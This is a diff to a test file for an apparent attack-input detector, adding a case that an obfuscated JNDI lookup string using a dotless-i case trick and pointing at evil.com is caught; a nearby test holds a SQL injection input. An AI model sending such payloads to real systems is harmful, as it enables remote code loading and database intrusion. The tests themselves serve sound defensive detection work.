@@ -239,3 +239,9 @@ describe("quoted words in prose (audit of issue #3)", () => {
     expect(hits("1' or 1", AttackClass.Sqli)).toBe(true);
   });
 });
+
+describe("JNDI with a dotless i (audit of issue #3)", () => {
+  it("${upper:ı} spells the I of jndi", () => {
+    expect(hits("${jnd${upper:ı}:http://evil.com/a}", AttackClass.Jndi)).toBe(true);
+  });
+});
